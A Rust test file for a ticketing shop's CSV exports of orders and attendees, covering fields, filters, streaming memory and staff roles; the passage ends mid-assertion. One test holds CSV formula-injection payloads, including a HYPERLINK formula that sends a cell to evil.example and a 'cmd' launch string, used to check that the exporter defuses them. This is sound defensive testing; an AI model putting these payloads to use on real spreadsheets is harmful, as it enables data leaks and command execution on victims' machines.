//! Exports over HTTP: a sale's orders and attendees as CSV (fields,
//! filters, quoting, the formula guard, refunded and redeemed codes, what a
//! voucher took off), filters that cannot be read, an export of 100,000
//! codes streamed by a `holdfast serve` process whose memory is measured,
//! who may export, and the door's list.

use std::collections::HashMap;
use std::time::Duration;

use chrono::{DateTime, FixedOffset, Utc};
use holdfast::clock::ShopZone;
use holdfast::staff::roles::Role;
use reqwest::StatusCode;
use reqwest::header::{CONTENT_DISPOSITION, CONTENT_LENGTH, CONTENT_TYPE};

use holdfast_testkit::engine::paid;
use holdfast_testkit::*;

const BOM: &str = "\u{feff}";
pub(crate) const ORDER_COLUMNS: &str = "order_id,placed_at,paid_at,state,flag,customer_name,customer_email,\
    lines,units,units_refunded,currency,subtotal_minor,voucher,discount_minor,discount,\
    amount_minor,amount,refunded_minor,refunded,provider,payment_ref,codes";
const ATTENDEE_COLUMNS: &str = "code,kind,admits,product_id,starts_at,customer_name,\
    customer_email,order_id,order_state,paid_at,redeemed,redeemed_at,redeemed_by,redeemed_where,\
    refunded,item_id,state";

/// A CSV as RFC 4180 reads it, strictly: CRLF after every line, quotes
/// only around a whole cell, a quote inside one doubled. Panics on
/// anything else, so a writer that breaks the rules fails here.
pub(crate) fn parse_csv(text: &str) -> Vec<Vec<String>> {
    let mut lines = Vec::new();
    let mut line = Vec::new();
    let mut cell = String::new();
    let mut chars = text.chars().peekable();
    let mut at_cell_start = true;
    while let Some(c) = chars.next() {
        match c {
            '"' if at_cell_start => {
                // a quoted cell: to the closing quote
                loop {
                    match chars.next() {
                        Some('"') if chars.peek() == Some(&'"') => {
                            chars.next();
                            cell.push('"');
                        }
                        Some('"') => break,
                        Some(c) => cell.push(c),
                        None => panic!("a quoted cell never closes: {cell:?}"),
                    }
                }
                match chars.peek() {
                    Some(',') | Some('\r') | None => {}
                    other => panic!("{other:?} after a quoted cell {cell:?}"),
                }
                at_cell_start = false;
            }
            '"' => panic!("a quote inside an unquoted cell: {cell:?}"),
            ',' => {
                line.push(std::mem::take(&mut cell));
                at_cell_start = true;
            }
            '\r' => {
                assert_eq!(chars.next(), Some('\n'), "CR without LF after {cell:?}");
                line.push(std::mem::take(&mut cell));
                lines.push(std::mem::take(&mut line));
                at_cell_start = true;
            }
            '\n' => panic!("a bare LF outside quotes after {cell:?}"),
            c => {
                cell.push(c);
                at_cell_start = false;
            }
        }
    }
    assert!(
        line.is_empty() && cell.is_empty(),
        "the last line has no CRLF"
    );
    lines
}

/// A CSV's lines as maps from its header's names; every line as long as
/// the header.
pub(crate) fn records(text: &str, columns: &str) -> Vec<HashMap<String, String>> {
    let text = text
        .strip_prefix(BOM)
        .expect("the file starts with a UTF-8 byte order mark");
    let mut lines = parse_csv(text).into_iter();
    let header = lines.next().expect("a header line");
    assert_eq!(header.join(","), columns.replace(' ', ""));
    lines
        .map(|line| {
            assert_eq!(line.len(), header.len(), "{line:?}");
            header.iter().cloned().zip(line).collect()
        })
        .collect()
}

pub(crate) struct Download {
    disposition: String,
    pub(crate) text: String,
}

pub(crate) async fn download(app: &TestApp, staff: &reqwest::Client, path: &str) -> Download {
    let response = staff
        .get(format!("{}{path}", app.address))
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), StatusCode::OK, "GET {path}");
    assert_eq!(response.headers()[CONTENT_TYPE], "text/csv; charset=utf-8");
    assert_eq!(response.headers()["cache-control"], "no-store");
    let disposition = response.headers()[CONTENT_DISPOSITION]
        .to_str()
        .unwrap()
        .to_owned();
    Download {
        disposition,
        text: response.text().await.unwrap(),
    }
}

async fn orders(
    app: &TestApp,
    staff: &reqwest::Client,
    query: &str,
) -> Vec<HashMap<String, String>> {
    let file = download(app, staff, &format!("/admin/exports/orders.csv?{query}")).await;
    records(&file.text, ORDER_COLUMNS)
}

async fn attendees(
    app: &TestApp,
    staff: &reqwest::Client,
    query: &str,
) -> Vec<HashMap<String, String>> {
    let file = download(app, staff, &format!("/admin/exports/attendees.csv?{query}")).await;
    records(&file.text, ATTENDEE_COLUMNS)
}

fn column<'a>(rows: &'a [HashMap<String, String>], name: &str) -> Vec<&'a str> {
    rows.iter().map(|r| r[name].as_str()).collect()
}

async fn set_role(app: &TestApp, role: Role) {
    sqlx::query("update staff set role = $1 where email = $2")
        .bind(role.as_str())
        .bind(STAFF_EMAIL)
        .execute(&app.db.pool)
        .await
        .unwrap();
}

async fn rename(app: &TestApp, order: uuid::Uuid, name: &str) {
    sqlx::query("update orders set customer_name = $2 where id = $1")
        .bind(order)
        .bind(name)
        .execute(&app.db.pool)
        .await
        .unwrap();
}

/// The shop in Berlin (times carry +01:00 or +02:00), its demo catalogue,
/// and a box office member signed in.
async fn shop_in_berlin() -> (TestApp, reqwest::Client, String) {
    let app = spawn_app_shaped(TestDb::new().await, |_, shop| {
        shop.default_zone = ShopZone::parse("Europe/Berlin").unwrap();
    })
    .await;
    app.load_demo().await;
    app.add_staff().await;
    let (staff, csrf) = app.staff_browser().await;
    set_role(&app, Role::BoxOffice).await;
    (app, staff, csrf)
}

/// A moment as the exports write it, read back.
fn moment(text: &str) -> DateTime<FixedOffset> {
    DateTime::parse_from_str(text, "%Y-%m-%d %H:%M:%S%:z")
        .unwrap_or_else(|e| panic!("{text:?} is not a moment with its offset: {e}"))
}

/// `at` as Berlin writes it, to the second.
fn in_berlin(at: DateTime<Utc>) -> String {
    ShopZone::parse("Europe/Berlin")
        .unwrap()
        .local(at)
        .format("%Y-%m-%d %H:%M:%S%:z")
        .to_string()
}

async fn redeem(app: &TestApp, staff: &reqwest::Client, csrf: &str, code: &str, place: &str) {
    let response = app
        .admin_post(
            staff,
            "/admin/redeem",
            &[("csrf", csrf), ("code", code), ("place", place)],
        )
        .await;
    assert_eq!(response.status(), StatusCode::OK, "redeeming {code}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_sales_orders_and_attendees_are_in_the_csvs_with_their_fields_and_filters() {
    let (app, staff, csrf) = shop_in_berlin().await;
    let slot = app.db.first_slot().await;
    let concert = paid(
        &app.db,
        "exp-concert",
        &[("harbour-lights-general", 2), ("harbour-lights-vip", 1)],
    )
    .await;
    rename(&app, concert.id, "Bea Concert").await;
    let bakery = paid(&app.db, "exp-bakery", &[(slot.as_str(), 2)]).await;
    rename(&app, bakery.id, "Cai Baker").await;
    let pantry = paid(&app.db, "exp-pantry", &[("wild-honey", 1)]).await;
    rename(&app, pantry.id, "Dee Pantry").await;
    // and one still paying: an order, but no codes yet
    let pending = app
        .start(&browser(), &Purchase::of("harbour-lights-vip", 1))
        .await
        .order_id
        .to_string();

    // one general ticket used at the north door, the VIP seat refunded
    let tickets: Vec<(String, String)> = sqlx::query_as(
        "select code, product_id from order_items where order_id = $1 order by product_id, code",
    )
    .bind(concert.id)
    .fetch_all(&app.db.pool)
    .await
    .unwrap();
    let (used, kept, vip) = (&tickets[0].0, &tickets[1].0, &tickets[2].0);
    assert_eq!(tickets[2].1, "harbour-lights-vip");
    redeem(&app, &staff, &csrf, used, "North door").await;
    let refunded = app
        .admin_post(
            &staff,
            &format!("/admin/orders/{}/refund", concert.id),
            &[
                ("csrf", csrf.as_str()),
                ("reason", "Moved to the stalls"),
                ("step", "refund"),
                ("restock", "on"),
                ("units:harbour-lights-general", "0"),
                ("units:harbour-lights-vip", "1"),
            ],
        )
        .await;
    assert_eq!(refunded.status(), StatusCode::SEE_OTHER);
    assert!(location(&refunded).ends_with("notice=staff_refund_queued"));

    // ---- orders: every one, in the order they were placed
    let file = download(&app, &staff, "/admin/exports/orders.csv").await;
    assert_eq!(file.disposition, "attachment; filename=\"orders-all.csv\"");
    let all = records(&file.text, ORDER_COLUMNS);
    assert_eq!(
        column(&all, "customer_name"),
        ["Bea Concert", "Cai Baker", "Dee Pantry", "Ada Shopper"]
    );
    let row = &all[0];
    assert_eq!(row["order_id"], concert.id.to_string());
    assert_eq!(row["state"], "paid");
    assert_eq!(row["customer_email"], "ada@example.com");
    assert_eq!(
        row["lines"],
        "2 × Harbour Lights — General admission (€70.00); 1 × Harbour Lights — VIP (€90.00)"
    );
    assert_eq!(
        (row["units"].as_str(), row["units_refunded"].as_str()),
        ("3", "1")
    );
    assert_eq!(row["currency"], "EUR");
    assert_eq!(row["subtotal_minor"], "16000");
    assert_eq!(
        (
            row["voucher"].as_str(),
            row["discount_minor"].as_str(),
            row["discount"].as_str()
        ),
        ("", "0", "€0.00")
    );
    assert_eq!(
        (row["amount_minor"].as_str(), row["amount"].as_str()),
        ("16000", "€160.00")
    );
    assert_eq!(
        (row["refunded_minor"].as_str(), row["refunded"].as_str()),
        ("9000", "€90.00")
    );
    assert_eq!(row["provider"], "stripe");
    assert_eq!(row["payment_ref"], "pi_exp-concert");
    assert_eq!(row["flag"], "");
    let (placed_at, paid_at): (DateTime<Utc>, DateTime<Utc>) =
        sqlx::query_as("select created_at, paid_at from orders where id = $1")
            .bind(concert.id)
            .fetch_one(&app.db.pool)
            .await
            .unwrap();
    assert_eq!(row["placed_at"], in_berlin(placed_at));
    assert_eq!(row["paid_at"], in_berlin(paid_at));
    let offset = moment(&row["paid_at"]).offset().local_minus_utc();
    assert!(
        [3600, 7200].contains(&offset),
        "Berlin's offset: {}",
        row["paid_at"]
    );
    assert_eq!(
        all[1]["codes"],
        crate::item_code(&app.db.pool, bakery.id, "pickup_slot")
            .await
            .unwrap()
    );
    assert_eq!(all[1]["amount"], "€36.00");
    let waiting = &all[3];
    assert_eq!(waiting["order_id"], pending);
    assert_eq!(
        (waiting["state"].as_str(), waiting["paid_at"].as_str()),
        ("pending", "")
    );

    // ---- orders: the filters
    let names = |rows: Vec<HashMap<String, String>>| -> Vec<String> {
        rows.into_iter()
            .map(|r| r["customer_name"].clone())
            .collect()
    };
    assert_eq!(
        names(orders(&app, &staff, "state=paid").await),
        ["Bea Concert", "Cai Baker", "Dee Pantry"]
    );
    assert_eq!(
        names(orders(&app, &staff, "collection=harbour-lights").await),
        ["Bea Concert", "Ada Shopper"]
    );
    assert_eq!(
        names(orders(&app, &staff, &format!("product={slot}")).await),
        ["Cai Baker"]
    );
    let berlin = ShopZone::parse("Europe/Berlin").unwrap();
    let today = berlin.today(Utc::now());
    let day = |n: i64| (today + chrono::Duration::days(n)).to_string();
    assert_eq!(
        names(
            orders(
                &app,
                &staff,
                &format!("paid_from={}&paid_to={}", day(0), day(0))
            )
            .await
        ),
        ["Bea Concert", "Cai Baker", "Dee Pantry"]
    );
    assert!(
        orders(&app, &staff, &format!("paid_to={}", day(-1)))
            .await
            .is_empty()
    );
    assert!(
        orders(&app, &staff, &format!("paid_from={}", day(1)))
            .await
            .is_empty()
    );
    // the concert is fourteen days ahead, the slots one or two
    assert_eq!(
        names(orders(&app, &staff, &format!("starts_from={}", day(10))).await),
        ["Bea Concert", "Ada Shopper"]
    );
    assert_eq!(
        names(orders(&app, &staff, &format!("starts_to={}", day(3))).await),
        ["Cai Baker"]
    );
    let named = download(
        &app,
        &staff,
        &format!(
            "/admin/exports/orders.csv?collection=harbour-lights&state=paid&paid_from={}",
            day(0)
        ),
    )
    .await;
    assert_eq!(
        named.disposition,
        format!(
            "attachment; filename=\"orders-harbour-lights-paid-paid-from-{}.csv\"",
            day(0)
        )
    );
    assert_eq!(names(records(&named.text, ORDER_COLUMNS)), ["Bea Concert"]);

    // ---- attendees: every code, by name, with what became of it
    let codes = attendees(&app, &staff, "").await;
    assert_eq!(
        column(&codes, "customer_name"),
        // the jar's collection code is an item too
        [
            "Bea Concert",
            "Bea Concert",
            "Bea Concert",
            "Cai Baker",
            "Dee Pantry"
        ]
    );
    let by_code: HashMap<&str, &HashMap<String, String>> =
        codes.iter().map(|r| (r["code"].as_str(), r)).collect();
    let used_row = by_code[used.as_str()];
    assert_eq!(used_row["kind"], "ticket");
    assert_eq!(used_row["admits"], "Harbour Lights — General admission");
    assert_eq!(used_row["product_id"], "harbour-lights-general");
    assert_eq!(used_row["order_id"], concert.id.to_string());
    assert_eq!(used_row["order_state"], "paid");
    assert_eq!(used_row["paid_at"], in_berlin(paid_at));
    assert_eq!(
        (used_row["redeemed"].as_str(), used_row["refunded"].as_str()),
        ("yes", "no")
    );
    assert_eq!(used_row["redeemed_by"], STAFF_EMAIL);
    assert_eq!(used_row["redeemed_where"], "North door");
    let redeemed_at: DateTime<Utc> =
        sqlx::query_scalar("select redeemed_at from redemptions where code = $1")
            .bind(used)
            .fetch_one(&app.db.pool)
            .await
            .unwrap();
    assert_eq!(used_row["redeemed_at"], in_berlin(redeemed_at));
    let concert_starts: DateTime<Utc> =
        sqlx::query_scalar("select starts_at from products where id = 'harbour-lights-general'")
            .fetch_one(&app.db.pool)
            .await
            .unwrap();
    assert_eq!(used_row["starts_at"], in_berlin(concert_starts));
    let kept_row = by_code[kept.as_str()];
    assert_eq!(
        (
            kept_row["redeemed"].as_str(),
            kept_row["redeemed_at"].as_str(),
            kept_row["redeemed_by"].as_str(),
            kept_row["refunded"].as_str()
        ),
        ("no", "", "", "no")
    );
    let vip_row = by_code[vip.as_str()];
    assert_eq!(vip_row["admits"], "Harbour Lights — VIP");
    assert_eq!(
        (vip_row["redeemed"].as_str(), vip_row["refunded"].as_str()),
        ("no", "yes")
    );
    let pickup = crate::item_code(&app.db.pool, bakery.id, "pickup_slot")
        .await
        .unwrap();
    let pickup_row = by_code[pickup.as_str()];
    let (slot_name, slot_starts): (String, DateTime<Utc>) =
        sqlx::query_as("select name, starts_at from products where id = $1")
            .bind(&slot)
            .fetch_one(&app.db.pool)
            .await
            .unwrap();
    assert_eq!(pickup_row["kind"], "pickup");
    assert_eq!(pickup_row["admits"], format!("{slot_name} × 2"));
    assert_eq!(pickup_row["product_id"], slot);
    assert_eq!(pickup_row["starts_at"], in_berlin(slot_starts));
    assert_eq!(
        (
            pickup_row["redeemed"].as_str(),
            pickup_row["refunded"].as_str()
        ),
        ("no", "no")
    );

    // ---- attendees: the filters
    let just_codes = |rows: Vec<HashMap<String, String>>| -> Vec<String> {
        rows.into_iter().map(|r| r["code"].clone()).collect()
    };
    assert_eq!(
        just_codes(attendees(&app, &staff, "product=harbour-lights-vip").await),
        [vip.as_str()]
    );
    assert_eq!(
        just_codes(attendees(&app, &staff, "collection=bakery").await),
        [pickup.as_str()]
    );
    let slot_day = berlin.today(slot_starts).to_string();
    assert_eq!(
        just_codes(
            attendees(
                &app,
                &staff,
                &format!("starts_from={slot_day}&starts_to={slot_day}")
            )
            .await
        ),
        [pickup.as_str()]
    );
    assert_eq!(attendees(&app, &staff, "state=paid").await.len(), 5);
    assert!(attendees(&app, &staff, "state=refunded").await.is_empty());

    // ---- each export is in Activity: who, what, which filter
    let recorded: Vec<(String, i64)> = sqlx::query_as(
        "select action, count(*) from staff_actions \
          where action like 'export_%' and outcome = 'started' \
            and staff_id = (select id from staff where email = $1) \
          group by action order by action",
    )
    .bind(STAFF_EMAIL)
    .fetch_all(&app.db.pool)
    .await
    .unwrap();
    assert_eq!(
        recorded,
        [
            ("export_attendees".to_owned(), 6),
            ("export_orders".to_owned(), 10)
        ]
    );
    let detail: serde_json::Value = sqlx::query_scalar(
        "select detail from staff_actions where action = 'export_attendees' \
          and target = 'product harbour-lights-vip'",
    )
    .fetch_one(&app.db.pool)
    .await
    .unwrap();
    assert_eq!(detail["product"], "harbour-lights-vip");
    assert_eq!(detail["collection"], serde_json::Value::Null);
}

/// A name that would run in a spreadsheet, bought through the shop's own
/// checkout form and paid at the sandbox.
const HYPERLINK: &str = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click, here\")";

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_names_are_quoted_and_never_run_as_formulas() {
    let (app, staff, _) = shop_in_berlin().await;
    let bought = app
        .buy(
            &browser(),
            &Purchase::of("harbour-lights-general", 1).by(HYPERLINK, "mallory@example.com"),
        )
        .await;
    app.wait_for_state(&bought.started.token, "paid").await;
    // names the checkout form refuses (control characters) but a database
    // may hold from elsewhere, and names that are only awkward
    let others = [
        "@SUM(1+1)\r\nsecond line, \"quoted\"",
        "+31 20 555 0100",
        "-1+2",
        "\t=cmd|' /C calc'!A0",
        "  =1+1",
        "Zoë \"Zo\" Ünal, Jr.",
    ];
    for (i, name) in others.iter().enumerate() {
        let order = paid(
            &app.db,
            &format!("hostile-{i}"),
            &[("harbour-lights-vip", 1)],
        )
        .await;
        rename(&app, order.id, name).await;
    }

    for (path, columns) in [
        ("/admin/exports/orders.csv", ORDER_COLUMNS),
        ("/admin/exports/attendees.csv", ATTENDEE_COLUMNS),
    ] {
        let file = download(&app, &staff, path).await;
        // quoted, its quotes doubled, the apostrophe first inside the quotes
        assert!(
            file.text.contains(
                "\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"Click, here\"\")\""
            ),
            "{path}: {}",
            file.text
        );
        let rows = records(&file.text, columns);
        assert_eq!(rows.len(), 1 + others.len(), "{path}");
        let names: Vec<&str> = column(&rows, "customer_name");
        assert!(
            names.contains(&format!("'{HYPERLINK}").as_str()),
            "{names:?}"
        );
        for name in &others[..5] {
            assert!(
                names.contains(&format!("'{name}").as_str()),
                "{path}: {name:?} in {names:?}"
            );
        }
        assert!(
            names.contains(&others[5]),
            "an awkward name is kept as it is"
        );
        // no cell of any line starts as a formula would
        for row in &rows {
            for (name, cell) in row {
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
                        && !cell.trim_start().starts_with(['=', '+', '-', '@']),
                    "{path}: {name} = {cell:?}"
                );
            }
        }
    }
}

/// The export's query, as PostgreSQL is running it now (its state and what
/// it waits for), if it is.
async fn export_query(pool: &sqlx::PgPool) -> Option<(String, Option<String>)> {
    sqlx::query_as(
        "select state, wait_event from pg_stat_activity \
          where datname = current_database() and pid <> pg_backend_pid() \
            and query like '-- holdfast export: attendees%' and state = 'active'",
    )
    .fetch_optional(pool)
    .await
    .unwrap()
}

/// A process's resident memory now, and its peak since the last
/// [`reset_peak`], in bytes (`VmRSS`, `VmHWM` of `/proc/<pid>/status`).
fn memory(pid: u32) -> (u64, u64) {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap();
    let kib = |name: &str| -> u64 {
        let line = status
            .lines()
            .find(|l| l.starts_with(name))
            .unwrap_or_else(|| panic!("no {name} in /proc/{pid}/status"));
        let n: u64 = line.split_whitespace().nth(1).unwrap().parse().unwrap();
        n * 1024
    };
    (kib("VmRSS:"), kib("VmHWM:"))
}

/// Starts a process's peak resident memory afresh from what it holds now
/// (`5` into `/proc/<pid>/clear_refs`, Linux 4.0 and later).
fn reset_peak(pid: u32) {
    std::fs::write(format!("/proc/{pid}/clear_refs"), "5").unwrap();
}

fn mib(bytes: u64) -> f64 {
    bytes as f64 / (1024.0 * 1024.0)
}

/// A staff browser signed in to the shop at `address`.
async fn staff_at(address: &str) -> reqwest::Client {
    let staff = browser();
    let form = read_page(&staff, &format!("{address}/admin/login")).await;
    let signed_in = staff
        .post(format!("{address}/admin/login"))
        .form(&[
            ("email", STAFF_EMAIL),
            ("password", STAFF_PASSWORD),
            ("csrf", &hidden(&form, "csrf")),
        ])
        .send()
        .await
        .unwrap();
    assert_eq!(signed_in.status(), StatusCode::SEE_OTHER);
    staff
}

/// What a download brought so far: its bytes, its lines (CRLF), and the
/// last byte (a CRLF may be split between two chunks).
#[derive(Debug, Default)]
struct Received {
    bytes: u64,
    lines: u64,
    chunks: u64,
    last: u8,
}

impl Received {
    fn take(&mut self, chunk: &[u8]) {
        self.chunks += 1;
        self.bytes += chunk.len() as u64;
        self.lines += chunk.windows(2).filter(|w| w == b"\r\n").count() as u64;
        if self.last == b'\r' && chunk.first() == Some(&b'\n') {
            self.lines += 1;
        }
        self.last = *chunk.last().unwrap_or(&self.last);
    }
}

/// 100,000 codes are exported by a `holdfast serve` process of its own, so
/// that its memory is its own to measure, while the client reads the file
/// a chunk at a time and keeps none of it. The file is some 60 MB; were it
/// made in memory (`fetch_all`, or rows read ahead into a buffer), the
/// server would hold it, and its rows, at once. Streamed, the rows come
/// from PostgreSQL as the client takes them: after the first chunk, with
/// the client not reading, PostgreSQL waits to send more (`ClientWrite`);
/// and the server's peak resident memory while the whole file passes
/// through grows by a small fraction of the file.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_hundred_thousand_codes_stream_and_never_sit_in_memory() {
    let db = TestDb::new().await;
    db.load_demo().await;
    let sandbox = spawn_sandbox();
    let server = Server::serve(env!("CARGO_BIN_EXE_holdfast"), &db, &sandbox, &[]).await;
    let pid = server.child.id();
    holdfast::staff::add_staff(
        &db.pool,
        &holdfast::staff::StaffEmail::parse(STAFF_EMAIL).unwrap(),
        &holdfast::configuration::Secret::new(STAFF_PASSWORD),
    )
    .await
    .unwrap();
    let order = paid(&db, "bulk", &[("harbour-lights-general", 1)]).await;
    // a long name and address, so that the file is far larger than every
    // buffer between PostgreSQL and the client
    let name: String = format!("Augusta Ada King, Countess of Lovelace {}", "x".repeat(200))
        .chars()
        .take(200)
        .collect();
    sqlx::query("update orders set customer_name = $2, customer_email = $3 where id = $1")
        .bind(order.id)
        .bind(&name)
        .bind(format!("{}@example.com", "a".repeat(200)))
        .execute(&db.pool)
        .await
        .unwrap();
    let inserted = sqlx::query(
        "insert into order_items (code, order_id, product_id) \
         select 'BULK-' || lpad(g::text, 6, '0'), $1, 'harbour-lights-general' \
           from generate_series(1, 100000) g",
    )
    .bind(order.id)
    .execute(&db.pool)
    .await
    .unwrap();
    assert_eq!(inserted.rows_affected(), 100_000);
    let staff = staff_at(&server.address).await;

    // a small export first, so that what every export allocates once (the
    // pool's connection, the templates, the runtime's buffers) is there
    // before the peak is measured
    let warm = staff
        .get(format!(
            "{}/admin/exports/attendees.csv?product=harbour-lights-vip",
            server.address
        ))
        .send()
        .await
        .unwrap();
    assert_eq!(warm.status(), StatusCode::OK);
    warm.bytes().await.unwrap();
    let (before, _) = memory(pid);
    reset_peak(pid);

    let mut response = staff
        .get(format!(
            "{}/admin/exports/attendees.csv?product=harbour-lights-general",
            server.address
        ))
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), StatusCode::OK);
    assert!(
        response.headers().get(CONTENT_LENGTH).is_none(),
        "a streamed body has no length ahead of it"
    );
    let mut got = Received::default();
    let first = response.chunk().await.unwrap().expect("a first chunk");
    assert!(first.starts_with(format!("{BOM}code,kind,").as_bytes()));
    got.take(&first);

    // the client stops reading: PostgreSQL is left with rows to send and
    // waits for the server to take them, which it does only for the client
    let mut waiting = None;
    for _ in 0..300 {
        if let Some((_, Some(wait))) = export_query(&db.pool).await
            && wait == "ClientWrite"
        {
            waiting = Some(wait);
            break;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    assert_eq!(
        waiting.as_deref(),
        Some("ClientWrite"),
        "PostgreSQL should be waiting for the server to take more rows"
    );
    let (paused, _) = memory(pid);

    // the client reads on, a chunk at a time, keeping none of it
    let mut sampled = paused;
    let mut next_sample = got.bytes;
    while let Some(chunk) = response.chunk().await.unwrap() {
        got.take(&chunk);
        if got.bytes >= next_sample {
            sampled = sampled.max(memory(pid).0);
            next_sample = got.bytes + 1024 * 1024;
        }
    }
    let (after, peak) = memory(pid);
    let peak = peak.max(sampled);
    assert_eq!(got.last, b'\n', "the file ends with its last line");
    assert_eq!(got.lines, 1 + 100_001, "the header and every code");
    assert!(got.bytes > 50_000_000, "{} bytes", got.bytes);
    let grew = peak.saturating_sub(before);
    eprintln!(
        "100,001 codes: {:.1} MiB in {} chunks (the first {} bytes); holdfast serve's \
         resident memory {:.1} MiB before, {:.1} MiB with the client paused after the first \
         chunk, peak {:.1} MiB (+{:.1} MiB), {:.1} MiB after",
        mib(got.bytes),
        got.chunks,
        first.len(),
        mib(before),
        mib(paused),
        mib(peak),
        mib(grew),
        mib(after),
    );
    assert!(
        grew < 16 * 1024 * 1024 && grew * 4 < got.bytes,
        "the server's memory grew by {:.1} MiB for a file of {:.1} MiB",
        mib(grew),
        mib(got.bytes)
    );
    // and the query is over once the last row went out
    for _ in 0..50 {
        if export_query(&db.pool).await.is_none() {
            break;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    assert!(export_query(&db.pool).await.is_none());
}

/// The exports pages, which the door may not see.
const EXPORT_PAGES: [&str; 3] = [
    "/admin/exports",
    "/admin/exports/orders.csv",
    "/admin/exports/attendees.csv",
];
const DOOR_LIST: &str = "/admin/door-list?collection=harbour-lights";

#[tokio::test]
async fn the_box_office_may_export_and_print_the_doors_list_and_the_door_may_not() {
    let app = spawn_app().await;
    app.load_demo().await;
    app.add_staff().await;
    paid(&app.db, "roles", &[("harbour-lights-vip", 1)]).await;
    // without a session: nothing
    for path in EXPORT_PAGES
        .into_iter()
        .chain([DOOR_LIST, "/admin/door-list"])
    {
        let response = app
            .client
            .get(format!("{}{path}", app.address))
            .send()
            .await
            .unwrap();
        assert_eq!(response.status(), StatusCode::UNAUTHORIZED, "{path}");
        assert!(response.headers().get(CONTENT_DISPOSITION).is_none());
        assert!(!response.text().await.unwrap().contains("TKT-"));
    }
    let (staff, _) = app.staff_browser().await;
    set_role(&app, Role::BoxOffice).await;
    let page = app.admin_page(&staff, "/admin/orders").await;
    assert!(
        page.contains("href=\"/admin/exports\"") && page.contains("href=\"/admin/door-list\""),
        "the box office's links"
    );
    for path in EXPORT_PAGES.into_iter().chain([DOOR_LIST]) {
        let response = staff
            .get(format!("{}{path}", app.address))
            .send()
            .await
            .unwrap();
        assert_eq!(response.status(), StatusCode::OK, "box office: {path}");
    }
    set_role(&app, Role::Door).await;
    let page = app.admin_page(&staff, "/admin/redeem").await;
    assert!(
        !page.contains("/admin/exports"),
        "no Exports link for the door"
    );
    assert!(
        !page.contains("/admin/door-list"),
        "no door's lists for the door: the box office prints them"
    );
    for path in EXPORT_PAGES
        .into_iter()
        .chain([DOOR_LIST, "/admin/door-list"])
    {
        let response = staff
            .get(format!("{}{path}", app.address))
            .send()
            .await
            .unwrap();
        assert_eq!(response.status(), StatusCode::FORBIDDEN, "door: {path}");
        assert!(response.headers().get(CONTENT_DISPOSITION).is_none());
        let text = response.text().await.unwrap();
        assert!(
            text.contains("Not for your role") && !text.contains("TKT-"),
            "{text}"
        );
    }
    let refused: Vec<String> = sqlx::query_scalar(
        "select detail->>'needs' from staff_actions where action = 'refused' order by id",
    )
    .fetch_all(&app.db.pool)
    .await
    .unwrap();
    assert_eq!(
        refused,
        ["exports", "exports", "exports", "door_list", "door_list"]
    );
    let exported: Vec<(String, String)> = sqlx::query_as(
        "select action, detail->>'role' from staff_actions \
          where action in ('export_orders', 'export_attendees', 'door_list') order by id",
    )
    .fetch_all(&app.db.pool)
    .await
    .unwrap();
    assert_eq!(
        exported,
        [
            ("export_orders".to_owned(), "box_office".to_owned()),
            ("export_attendees".to_owned(), "box_office".to_owned()),
            ("door_list".to_owned(), "box_office".to_owned()),
        ],
        "the box office's three, each with who asked"
    );
}

/// The rows of the door's list: (name, code, class).
fn door_rows(page: &str) -> Vec<(String, String, String)> {
    let table = &page[page.find("id=\"door-list\"").expect("a door list")..];
    let table = &table[..table.find("</table>").unwrap()];
    table
        .split("<tr class=\"")
        .skip(1)
        .map(|row| {
            let class = row[..row.find('"').unwrap()].to_owned();
            let code = hidden_attr(row, "data-code");
            let cells: Vec<&str> = row.split("<td>").skip(1).collect();
            let name = cells[0][..cells[0].find("</td>").unwrap()].to_owned();
            (name, code, class)
        })
        .collect()
}

fn hidden_attr(text: &str, name: &str) -> String {
    let marker = format!("{name}=\"");
    let start = text.find(&marker).unwrap() + marker.len();
    text[start..start + text[start..].find('"').unwrap()].to_owned()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_doors_list_is_by_name_with_a_box_per_code_and_used_ones_marked() {
    let (app, staff, csrf) = shop_in_berlin().await;
    let buyers = [
        ("Zed Last", "harbour-lights-vip", 1),
        ("amy First", "harbour-lights-general", 1),
        ("Bo Middle", "harbour-lights-general", 2),
        ("Cy Refunded", "harbour-lights-vip", 1),
    ];
    let mut orders = Vec::new();
    for (i, (name, product, n)) in buyers.iter().enumerate() {
        let order = paid(&app.db, &format!("door-{i}"), &[(*product, *n)]).await;
        rename(&app, order.id, name).await;
        orders.push(order);
    }
    // a slot's order is not on the concert's list
    let slot = app.db.first_slot().await;
    paid(&app.db, "door-slot", &[(slot.as_str(), 1)]).await;
    let code_of = |order: uuid::Uuid| {
        let pool = app.db.pool.clone();
        async move {
            sqlx::query_scalar::<_, String>(
                "select code from order_items where order_id = $1 order by code limit 1",
            )
            .bind(order)
            .fetch_one(&pool)
            .await
            .unwrap()
        }
    };
    let used = code_of(orders[2].id).await;
    redeem(&app, &staff, &csrf, &used, "North door").await;
    let refunded = app
        .admin_post(
            &staff,
            &format!("/admin/orders/{}/refund", orders[3].id),
            &[
                ("csrf", csrf.as_str()),
                ("reason", "Cannot come"),
                ("step", "refund"),
                ("restock", "on"),
                ("units:harbour-lights-vip", "1"),
            ],
        )
        .await;
    assert_eq!(refunded.status(), StatusCode::SEE_OTHER);

    let page = app
        .admin_page(&staff, "/admin/door-list?collection=harbour-lights")
        .await;
    let rows = door_rows(&page);
    let names: Vec<&str> = rows.iter().map(|r| r.0.as_str()).collect();
    assert_eq!(
        names,
        [
            "amy First",
            "Bo Middle",
            "Bo Middle",
            "Cy Refunded",
            "Zed Last"
        ],
        "by name, whatever its case"
    );
    let codes: i64 = sqlx::query_scalar(
        "select count(*) from order_items c join products p on p.id = c.product_id \
          where p.collection = 'harbour-lights'",
    )
    .fetch_one(&app.db.pool)
    .await
    .unwrap();
    assert_eq!(rows.len() as i64, codes, "every code of the concert");
    assert_eq!(
        page.matches("class=\"tick\"").count(),
        4,
        "a box to tick each"
    );
    assert_eq!(
